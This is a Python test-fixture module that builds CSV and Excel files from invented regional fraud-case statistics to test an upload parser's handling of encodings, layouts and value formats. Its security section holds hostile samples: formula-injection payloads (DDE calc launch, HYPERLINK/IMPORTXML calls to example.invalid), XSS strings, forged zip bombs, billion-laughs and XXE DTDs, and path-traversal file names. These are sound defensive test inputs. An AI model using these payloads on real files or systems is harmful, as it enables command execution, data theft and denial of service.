"""The project's own stand-ins for the generated corpus (../shared/corpus/generated), built in code.

Each fixture exercises what one generated case exercises (its id in `Fixture.case`): the same
encoding, layout or attack at the same rows and columns, with this project's own invented numbers.
Nothing here is read from ../shared; everything is deterministic. Bombs are small (a forged declared
size, a 2 MB entry of one repeated row, a DTD) but trip the same guards as the corpus's.

    build("gbk_excel_export.csv") -> bytes
"""

from __future__ import annotations

import datetime
import io
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import openpyxl
from openpyxl.styles import Font

HEADER = ["地区", "年份", "立案数", "破案数", "涉案金额(万元)", "挽损金额(万元)", "劝阻人数", "破案率(%)", "同比(%)"]
# Invented figures of eight regions for 2024: region, filed, solved, losses and recovered (万元), prevented, yoy (%).
_FIGURES = [
    ("北京市", 1510, 655, "33120.5", "7410.2", 19870, "-2.6"),
    ("天津市", 846, 391, "14210", "3655.4", 9455, "4.8"),
    ("上海市", 1702, 731, "40511.8", "9803.6", 24630, "-1.1"),
    ("重庆市", 1233, 548, "21980.4", "5017.7", 13507, "11.9"),
    ("河北省", 2305, 990, "29870.2", "6120.9", 18221, "6.3"),
    ("广东省", 5480, 2317, "97655.1", "19870.5", 60388, "-5.7"),
    ("浙江省", 3266, 1452, "58410.7", "14322.8", 39712, "2.9"),
    ("四川省", 2951, 1240, "39905.3", "8911.4", 29804, "28.4"),
]
YEAR = 2024


def _rate(filed: int, solved: int) -> str:
    return f"{solved * 100 / filed:.1f}"


ROWS: list[list[str]] = [
    [region, str(YEAR), str(filed), str(solved), losses, recovered, str(prevented), _rate(filed, solved), yoy]
    for region, filed, solved, losses, recovered, prevented, yoy in _FIGURES
]
# The first data row (spreadsheet row 2) in the figure model's units: what a reader must find there.
FIRST_ROW_FIGURES = {
    "cases_filed": 1510,
    "cases_solved": 655,
    "fraud_losses": 331_205_000,  # 33120.5 万元
    "losses_recovered": 74_102_000,  # 7410.2 万元
    "victims_prevented": 19870,
    "clearance_rate": 43.4,
}
COLUMN_TOTALS = {c: sum(int(row[c]) for row in ROWS) for c in (2, 3, 6)}  # 立案数, 破案数, 劝阻人数


def _typed(cell: str) -> object:
    """A CSV cell as Excel would hold it: a number where it is one."""
    try:
        return int(cell)
    except ValueError:
        try:
            return float(cell)
        except ValueError:
            return cell


def csv_text(rows: list[list[str]], delimiter: str = ",", newline: str = "\n") -> str:
    def quoted(cell: str) -> str:
        if any(ch in cell for ch in (delimiter, '"', "\n", "\r")):
            return '"' + cell.replace('"', '""') + '"'
        return cell

    return "".join(delimiter.join(quoted(c) for c in row) + newline for row in rows)


def baseline_csv(rows: list[list[str]] | None = None, encoding: str = "utf-8", newline: str = "\n") -> bytes:
    return csv_text([HEADER, *(ROWS if rows is None else rows)], newline=newline).encode(encoding)


FIXED_TIME = datetime.datetime(2025, 1, 8, 9, 30)


def xlsx_bytes(workbook: openpyxl.Workbook) -> bytes:
    """The workbook saved with fixed times (document properties, zip entries): the same bytes every build."""
    workbook.properties.created = FIXED_TIME
    buffer = io.BytesIO()
    workbook.save(buffer)  # sets the modified time to now
    data = buffer.getvalue()
    core = zipfile.ZipFile(io.BytesIO(data)).read("docProps/core.xml").decode()
    core = re.sub(r"(<dcterms:modified[^>]*>)[^<]*", rf"\g<1>{FIXED_TIME:%Y-%m-%dT%H:%M:%SZ}", core)
    return rewrite_zip(data, {"docProps/core.xml": core.encode()})


def _sheet_workbook(rows: list[list[object]], title: str = "数据") -> tuple[openpyxl.Workbook, object]:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    return workbook, sheet


def _typed_rows(rows: list[list[str]]) -> list[list[object]]:
    return [[_typed(c) for c in row] for row in rows]


def rewrite_zip(data: bytes, replace: dict[str, bytes]) -> bytes:
    """The same zip with some entries' contents replaced (deflated, as Excel writes them)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            entry = zipfile.ZipInfo(info.filename, date_time=FIXED_TIME.timetuple()[:6])
            entry.compress_type = zipfile.ZIP_DEFLATED
            target.writestr(entry, replace.get(info.filename, source.read(info.filename)))
    return out.getvalue()


def forge_declared_size(data: bytes, name: str, size: int) -> bytes:
    """A zip whose central directory claims that `name` unpacks to `size` bytes.

    Nothing is inflated to build it: the guard that refuses zip bombs reads the declared sizes
    before it decompresses anything, which is what this exercises.
    """
    encoded = name.encode()
    at = data.find(b"PK\x01\x02")
    while at != -1:
        name_length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + name_length] == encoded:
            return data[: at + 24] + struct.pack("<I", size) + data[at + 28 :]
        at = data.find(b"PK\x01\x02", at + 4)
    raise KeyError(name)


# ---------------------------------------------------------------- A: encodings and file types


def _gbk_export() -> bytes:
    # Excel "CSV (逗号分隔)" on Chinese Windows: GBK, CRLF, no BOM; 天津市's 立案数 typed as "1,846".
    rows = [list(r) for r in ROWS]
    rows[1][2] = "1,846"
    return baseline_csv(rows, encoding="gbk", newline="\r\n")


def _euro_byte() -> bytes:
    # Code page 936 maps 0x80 to €; Python's gbk/gb18030 codecs refuse it. Row 4's 备注 holds it.
    rows = [[*r, ""] for r in ROWS]
    rows[2][-1] = "按€折算"
    text = csv_text([[*HEADER, "备注"], *rows], newline="\r\n")
    return text.replace("€", "\x00").encode("gbk").replace(b"\x00", b"\x80")


def _concatenated_exports() -> bytes:
    # Two "CSV UTF-8" exports joined: the second BOM and header land on row 10, then rows 11-12 repeat rows 2-3.
    first = b"\xef\xbb\xbf" + baseline_csv(newline="\r\n")
    second = b"\xef\xbb\xbf" + baseline_csv(ROWS[:2], newline="\r\n")
    return first + second


def _html_table() -> bytes:
    cells = "".join(f"<td>{c}</td>" for c in HEADER)
    body = "".join("<tr>" + "".join(f"<td>{c}</td>" for c in row) + "</tr>" for row in ROWS[:3])
    return (
        '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head>'
        f"<body><table><tr>{cells}</tr>{body}</table></body></html>"
    ).encode()


def _ole2_container() -> bytes:
    # The Compound File Binary header: legacy .xls, or an .xlsx encrypted with a password to open.
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff" + b"\x00" * 482


# ---------------------------------------------------------------- B: structure


def _title_two_row_header_total() -> bytes:
    workbook, sheet = _sheet_workbook(
        [
            [f"{YEAR}年各地区电信网络诈骗案件统计表（测试数据）"],
            ["单位：起、万元、人", None, None, None, None, "填报日期：2025年1月8日"],
            ["地区", "案件情况", None, "金额（万元）", None, "劝阻人数", "破案率", "同比"],
            [None, "立案数", "破案数", "涉案金额", "挽损金额"],
        ],
        title=f"{YEAR}年",
    )
    for region, filed, solved, losses, recovered, prevented, yoy in _FIGURES:
        sheet.append([region, filed, solved, float(losses), float(recovered), prevented,
                      round(solved / filed, 3), float(yoy) / 100])
    last = 4 + len(_FIGURES)
    sheet.append(["合计", *(f"=SUM({col}5:{col}{last})" for col in "BCDEF")])
    sheet.append(["注：1.本表为测试数据；2.破案率=破案数/立案数。"])
    for ref in ("A1:H1", "A3:A4", "B3:C3", "D3:E3", "F3:F4", "G3:G4", "H3:H4", f"A{last + 2}:H{last + 2}"):
        sheet.merge_cells(ref)
    for row in range(5, last + 1):
        sheet[f"G{row}"].number_format = "0.0%"
        sheet[f"H{row}"].number_format = "0.0%"
    return xlsx_bytes(workbook)


def _totals(total_filed: int) -> bytes:
    total = ["合计", str(YEAR), str(total_filed), str(COLUMN_TOTALS[3]), "", "", str(COLUMN_TOTALS[6]), "", ""]
    subtotal_filed = sum(int(r[2]) for r in ROWS[:4])
    subtotal = ["其中：直辖市小计", str(YEAR), str(subtotal_filed), "", "", "", "", "", ""]
    return baseline_csv([*ROWS, total, subtotal])


def _duplicate_columns() -> bytes:
    rows = [[r[0], r[1], r[2], str(int(r[2]) + 1), r[3]] for r in ROWS]
    return csv_text([["地区", "年份", "立案数", "立案数", "破案数"], *rows]).encode()


def _duplicate_rows() -> bytes:
    conflicting = ["北京市", str(YEAR), "1600", "700", "34000", "7500", "20000", "43.8", "-1"]
    return baseline_csv([*ROWS, conflicting, list(ROWS[1])])


def _ragged_rows() -> bytes:
    rows = [list(r) for r in ROWS]
    rows[2] = [*rows[2], "999"]  # row 4: one cell too many
    rows[4] = rows[4][:6]  # row 6: 劝阻人数, 破案率(%), 同比(%) missing
    return baseline_csv(rows)


def _unbalanced_quote() -> bytes:
    text = baseline_csv().decode()
    lines = text.splitlines(keepends=True)
    lines[2] = '"' + lines[2]  # row 3 opens a quote that never closes
    return "".join(lines).encode()


def _multiple_sheets() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.title = "填表说明"
    workbook.active.append([f"请在“{YEAR}数据”表中填写，勿修改表头。"])
    old = workbook.create_sheet(f"{YEAR - 1}旧数据")
    old.sheet_state = "hidden"
    for row in [HEADER, *_typed_rows([[r[0], str(YEAR - 1), *r[2:]] for r in ROWS])]:
        old.append(row)
    data = workbook.create_sheet(f"{YEAR}数据")
    for row in [HEADER, *_typed_rows(ROWS)]:
        data.append(row)
    workbook.create_sheet("Sheet3")
    return xlsx_bytes(workbook)


def _dimension_claims_every_row() -> bytes:
    workbook, sheet = _sheet_workbook([HEADER, *_typed_rows(ROWS)])
    sheet["I1048576"].font = Font(bold=True)  # a styled empty cell: max_row becomes 1,048,576
    return xlsx_bytes(workbook)


def _blank_and_section_rows() -> bytes:
    rows = [*ROWS[:3], [""] * 9, ["华东地区", *[""] * 8], *ROWS[3:]]
    return baseline_csv(rows)


# ---------------------------------------------------------------- C: values


def _count_formats() -> bytes:
    cells = [
        ("北京市", "1510", "plain"),
        ("天津市", "1,510", "thousands comma"),
        ("上海市", "1，510", "full-width comma"),
        ("重庆市", "１５１０", "full-width digits"),
        ("河北省", " 1510 ", "surrounding spaces"),
        ("广东省", "1\u00a0510", "NBSP group separator"),
        ("浙江省", "1.6万", "万 = 10^4"),
        ("四川省", "0.3亿", "亿 = 10^8"),
        ("江苏省", "1510起", "unit suffix 起"),
        ("山东省", "约1500", "about"),
        ("河南省", "1500+", "open-ended"),
        ("湖北省", "1.5e3", "scientific notation"),
        ("湖南省", "1510.4", "not an integer"),
        ("福建省", "-", "dash placeholder"),
    ]
    return csv_text([["地区", "年份", "立案数", "说明(非数据)"], *([r, str(YEAR), v, n] for r, v, n in cells)]).encode()


def _percent_formats() -> bytes:
    values = ["33.5%", "33.5", "0.335", "３３．５％", "33.5 %", "百分之三十", "-"]
    regions = [f[0] for f in _FIGURES]
    return csv_text([["地区", "年份", "破案率(%)"], *([r, str(YEAR), v] for r, v in zip(regions, values, strict=False))]).encode()


def _replace(cells: dict[tuple[int, int], str], rows: list[list[str]] | None = None) -> bytes:
    """The baseline with cells replaced, keyed by (spreadsheet row, 0-based column)."""
    rows = [list(r) for r in (ROWS if rows is None else rows)]
    for (row, column), value in cells.items():
        rows[row - 2][column] = value
    return baseline_csv(rows)


def _month_variants() -> bytes:
    values = ["2024-01", "2024/1", "2024年1月", "202401", "45292", "1月", "2024-13"]
    regions = [f[0] for f in _FIGURES]
    return csv_text([["地区", "统计月份", "立案数"], *([r, v, "120"] for r, v in zip(regions, values, strict=False))]).encode()


def _mixed_units() -> bytes:
    values = ["33120.5", "14210万元", "405118000元", "2.2亿元", "29870.2万", "976551000"]
    regions = [f[0] for f in _FIGURES]
    return csv_text([["地区", "年份", "涉案金额(万元)"], *([r, str(YEAR), v] for r, v in zip(regions, values, strict=False))]).encode()


def _missing_markers() -> bytes:
    markers = ["", "-", "—", "/", "无", "N/A", "NA", "null"]
    rows = [[f[0], str(YEAR), m] for f, m in zip(_FIGURES, markers, strict=True)]
    rows += [[f"{f[0]}(2)", str(YEAR - 1), m] for f, m in zip(_FIGURES, ["#N/A", "不详", "暂无", "0"], strict=False)]
    return csv_text([["地区", "年份", "劝阻人数"], *rows]).encode()


def _region_variants() -> bytes:
    names = ["北京", "北京市 ", "Beijing", "京", "内蒙古", "新疆", "廣東省", "广东", "火星", "北京市朝阳区"]
    return csv_text([["地区", "年份", "立案数"], *([n, str(YEAR), str(200 + i)] for i, n in enumerate(names))]).encode()


def _control_characters() -> bytes:
    rows = [list(r) for r in ROWS[:6]]
    for row, (at, char) in zip(rows[1:5], [(1, "\x00"), (2, "\x0b"), (2, "\x1a"), (2, "\x1b[31m")], strict=True):
        row[0] = row[0][:at] + char + row[0][at:]
    return baseline_csv(rows)


def _long_cell() -> bytes:
    rows = [[*r, ""] for r in ROWS]
    rows[0][-1] = "长" * 40_000  # Excel keeps at most 32,767 characters in a cell
    return csv_text([[*HEADER, "备注"], *rows]).encode()


def _many_columns() -> bytes:
    return csv_text([[f"列{i}" for i in range(5000)], [str(i) for i in range(5000)]]).encode()


def _excel_error_values() -> bytes:
    workbook, sheet = _sheet_workbook([HEADER, *_typed_rows(ROWS)])
    sheet["C4"] = "=1/0"  # a formula openpyxl writes without a cached value
    sheet["D5"] = "#N/A"  # openpyxl stores these as error cells (t="e")
    sheet["E6"] = "#REF!"
    return xlsx_bytes(workbook)


def _total_formulas(cached: bool) -> bytes:
    workbook, sheet = _sheet_workbook([HEADER, *_typed_rows(ROWS)])
    sheet.append(["合计", YEAR, "=SUM(C2:C9)", "=SUM(D2:D9)", None, None, "=SUM(G2:G9)"])
    data = xlsx_bytes(workbook)
    if not cached:
        return data
    # What Excel writes after calculating: each formula with its cached value <v>.
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    totals = {"C": COLUMN_TOTALS[2], "D": COLUMN_TOTALS[3], "G": COLUMN_TOTALS[6]}

    def with_value(match: re.Match) -> str:
        return f"{match.group(1)}<f>{match.group(3)}</f><v>{totals[match.group(2)]}</v></c>"

    sheet_xml, count = re.subn(r'(<c r="([CDG])10"[^>]*>)<f>([^<]*)</f>(?:<v\s*/>|<v>[^<]*</v>)?</c>', with_value, sheet_xml)
    assert count == 3, sheet_xml
    return rewrite_zip(data, {"xl/worksheets/sheet1.xml": sheet_xml.encode()})


def _codes_and_ids_as_numbers() -> bytes:
    workbook, _ = _sheet_workbook(
        [
            ["行政区划代码", "地区", "案件编号", "立案数"],
            [110000, "北京市", 440106202401009984, 10],  # an 18-digit id kept as a number: digits lost
            ["120000", "天津市", "440106202401010002", 12],
            [120000, "天津市(科学计数)", 4.4010620240101e17, 3],
            [10000, "代码丢了前导0", "0440", 1],
        ],
        title="Sheet",
    )
    return xlsx_bytes(workbook)


def _dates() -> bytes:
    workbook, sheet = _sheet_workbook(
        [
            ["地区", "统计月份", "立案数"],
            ["北京市", datetime.datetime(2024, 1, 1), 100],
            ["天津市", "2024年1月", 90],
            ["上海市", 45292, 80],  # the serial number of 2024-01-01, not formatted as a date
            ["重庆市", datetime.datetime(1900, 1, 1), 70],  # Excel's day 1: a blank date's artefact
        ],
        title="Sheet",
    )
    sheet["B2"].number_format = "yyyy年m月"
    return xlsx_bytes(workbook)


# ---------------------------------------------------------------- D: security

INJECTION_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://example.invalid/?v=",A2),"//a")',
    'DDE ("cmd";"/C calc";"!A0")A0',
    "＝1+1",
]


def _formula_injection() -> bytes:
    regions = [f[0] for f in _FIGURES] + ["北京市", "天津市"]
    years = [YEAR] * 8 + [YEAR - 1] * 2
    rows = [[r, str(y), str(100 + i), p] for i, (r, y, p) in enumerate(zip(regions, years, INJECTION_PAYLOADS, strict=True))]
    rows.append(["=1+1", str(YEAR), "5", "地区名是公式"])  # row 12
    return csv_text([["地区", "年份", "立案数", "备注"], *rows]).encode()


MARKUP_REGIONS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "北京<b>市</b>",
    "[点击领取补贴](javascript:alert(1))",
    ":red[北京市]",
    "$\\frac{1}{0}$",
    "**北京市**",
    "<iframe src=//example.invalid>",
]


def _markup_in_regions() -> bytes:
    return csv_text([["地区", "年份", "立案数"], *([r, str(YEAR), str(10 + i)] for i, r in enumerate(MARKUP_REGIONS))]).encode()


def _markup_in_header() -> bytes:
    rows = [[r[0], r[1], r[2]] for r in ROWS]
    return csv_text([["<img src=x onerror=alert(1)>", "年份", "立案数"], *rows]).encode()


def _zip_bomb_declared() -> bytes:
    # A plain zip (no [Content_Types].xml) renamed .xlsx, whose one entry says it unpacks to 512 MiB.
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("zeros.bin", date_time=FIXED_TIME.timetuple()[:6]), b"\x00" * 4096)
    return forge_declared_size(out.getvalue(), "zeros.bin", 512 * 1024 * 1024)


def _zip_bomb_ooxml() -> bytes:
    # A valid workbook whose sheet repeats one row: 2.3 MB of XML in a few kilobytes (over 100:1).
    workbook, _ = _sheet_workbook([HEADER, *_typed_rows(ROWS)])
    data = xlsx_bytes(workbook)
    row = '<row><c t="inlineStr"><is><t>北京市</t></is></c><c><v>1</v></c></row>'
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + row * 40_000
        + "</sheetData></worksheet>"
    )
    return rewrite_zip(data, {"xl/worksheets/sheet1.xml": sheet.encode()})


def _zip_bomb_ooxml_declared() -> bytes:
    # The same workbook whose sheet says it unpacks to 600 MB (the corpus's 6,000,000 rows).
    workbook, _ = _sheet_workbook([HEADER, *_typed_rows(ROWS)])
    return forge_declared_size(xlsx_bytes(workbook), "xl/worksheets/sheet1.xml", 600_000_000)


def _sheet_with_dtd(dtd: str, cell: str) -> bytes:
    workbook, _ = _sheet_workbook([HEADER, *_typed_rows(ROWS)])
    data = xlsx_bytes(workbook)
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE worksheet [\n{dtd}\n]>\n'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>地区</t></is></c></row>'
        f'<row r="2"><c r="A2" t="inlineStr"><is><t>{cell}</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    return rewrite_zip(data, {"xl/worksheets/sheet1.xml": sheet.encode()})


def _billion_laughs() -> bytes:
    entities = ['<!ENTITY a0 "lol">'] + [f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 9)]
    return _sheet_with_dtd("\n".join(entities), "&a8;")


def _external_entity() -> bytes:
    return _sheet_with_dtd('<!ENTITY xxe SYSTEM "file:///etc/hostname">', "&xxe;")


# Hostile upload names (what the corpus's D12 lists): shown as text, never a path.
HOSTILE_FILE_NAMES = [
    "../../../../etc/passwd.csv",
    "..\\..\\windows\\system32\\config.csv",
    "/absolute/path/表.csv",
    "CON.csv",
    "NUL.xlsx",
    "报表\u202egpj.csv",  # right-to-left override: shows as "报表vsc.jpg"
    "a" * 300 + ".csv",
    "<img src=x onerror=alert(1)>.csv",
    "表\x00.csv",
    "报表.xlsx.exe",
    "报表.csv ",
    "",
]


@dataclass(frozen=True)
class Fixture:
    name: str  # the upload's file name; its extension matters
    case: str  # the generated corpus case whose behaviour it exercises
    build: Callable[[], bytes]
    differs: str = ""  # how it departs from that case on purpose; empty: the checker says the same of both


FIXTURES = {
    f.name: f
    for f in [
        Fixture("baseline_utf8.csv", "A01", baseline_csv),
        Fixture("baseline.xlsx", "A02", lambda: xlsx_bytes(_sheet_workbook([HEADER, *_typed_rows(ROWS)])[0])),
        Fixture("gbk_excel_export.csv", "A03", _gbk_export),
        Fixture("cp936_euro_byte_0x80.csv", "A04", _euro_byte),
        Fixture("utf8_bom.csv", "A06", lambda: b"\xef\xbb\xbf" + baseline_csv(newline="\r\n")),
        Fixture("concatenated_exports_bom_mid_file.csv", "A07", _concatenated_exports),
        Fixture("utf16le_tab_unicode_text.csv", "A08",
                lambda: b"\xff\xfe" + csv_text([HEADER, *ROWS], "\t", "\r\n").encode("utf-16-le")),
        Fixture("semicolon_delimiter.csv", "A11", lambda: csv_text([HEADER, *ROWS], ";").encode()),
        Fixture("empty_0_bytes.csv", "A12", lambda: b""),
        Fixture("bom_only.csv", "A13", lambda: b"\xef\xbb\xbf"),
        Fixture("blank_lines_only.csv", "A14", lambda: b"\r\n \r\n,,,\r\n\t\r\n"),
        Fixture("header_only.csv", "A15", lambda: csv_text([HEADER]).encode()),
        Fixture("csv_content_named.xlsx", "A16", baseline_csv),
        Fixture("xlsx_content_named.csv", "A17", lambda: xlsx_bytes(_sheet_workbook([HEADER, *_typed_rows(ROWS)])[0])),
        Fixture("html_table_named.xls", "A18", _html_table),
        Fixture("ole2_container_named.xlsx", "A19", _ole2_container),
        Fixture("title_row_two_row_merged_header_total_notes.xlsx", "B01", _title_two_row_header_total),
        Fixture("total_and_subtotal_rows.csv", "B02", lambda: _totals(sum(int(r[2]) for r in ROWS))),
        Fixture("wrong_total_row.csv", "B02", lambda: _totals(sum(int(r[2]) for r in ROWS) + 100),
                "its 合计 of 立案数 is 100 too high"),
        Fixture("duplicate_columns.csv", "B04", _duplicate_columns),
        Fixture("duplicate_region_year_rows.csv", "B06", _duplicate_rows),
        Fixture("ragged_rows.csv", "B07", _ragged_rows),
        Fixture("unbalanced_quote.csv", "B08", _unbalanced_quote),
        Fixture("multiple_sheets_hidden_and_instructions.xlsx", "B09", _multiple_sheets),
        Fixture("dimension_claims_1048576_rows.xlsx", "B11", _dimension_claims_every_row),
        Fixture("blank_row_and_section_label_row.csv", "B12", _blank_and_section_rows),
        Fixture("count_number_formats.csv", "C01", _count_formats),
        Fixture("percent_formats.csv", "C02", _percent_formats),
        Fixture("negative_counts.csv", "C03", lambda: _replace({(4, 2): "-12", (6, 6): "-1"})),
        Fixture("percent_out_of_range.csv", "C04", lambda: _replace({(3, 7): "130", (4, 8): "250", (5, 8): "-120"})),
        Fixture("month_variants.csv", "C06", _month_variants),
        Fixture("mixed_units_amount.csv", "C07", _mixed_units),
        Fixture("cross_field_inconsistency.csv", "C08", lambda: _replace({(3, 3): "900", (5, 5): "50000", (7, 7): "80"})),
        Fixture("missing_value_markers.csv", "C09", _missing_markers),
        Fixture("region_name_variants.csv", "C10", _region_variants),
        Fixture("control_chars_nul.csv", "C12", _control_characters),
        Fixture("cell_longer_than_excel_limit.csv", "C14", _long_cell),
        Fixture("5000_columns.csv", "C15", _many_columns),
        Fixture("excel_error_values.xlsx", "C16", _excel_error_values),
        Fixture("formulas_without_cached_values.xlsx", "C17", lambda: _total_formulas(cached=False)),
        Fixture("formulas_with_cached_values.xlsx", "C18", lambda: _total_formulas(cached=True)),
        Fixture("codes_and_long_ids_as_numbers.xlsx", "C19", _codes_and_ids_as_numbers),
        Fixture("dates_real_text_serial.xlsx", "C20", _dates),
        Fixture("formula_injection_cells.csv", "D01", _formula_injection),
        Fixture("html_markdown_in_region.csv", "D03", _markup_in_regions),
        Fixture("html_in_header.csv", "D04", _markup_in_header),
        Fixture("zip_bomb_plain_renamed.xlsx", "D05", _zip_bomb_declared),
        Fixture("zip_bomb_valid_ooxml.xlsx", "D06", _zip_bomb_ooxml_declared),
        Fixture("zip_bomb_valid_ooxml_ratio.xlsx", "D06", _zip_bomb_ooxml,
                "its sheet really inflates (2.3 MB, over 100:1) instead of declaring 600 MB"),
        Fixture("xml_billion_laughs_in_sheet.xlsx", "D08", _billion_laughs),
        Fixture("xml_xxe_external_entity_in_sheet.xlsx", "D10", _external_entity),
    ]
}
# Generated cases that are not tables, and where their behaviour is tested instead.
NOT_TABLES = {
    "D12": "a list of hostile upload names: HOSTILE_FILE_NAMES, tests/test_store.py",
    "E01": "a generator of a 200 MB CSV: the row and size caps are tested in code by tests/test_reading.py",
}


def build(name: str) -> bytes:
    return FIXTURES[name].build()
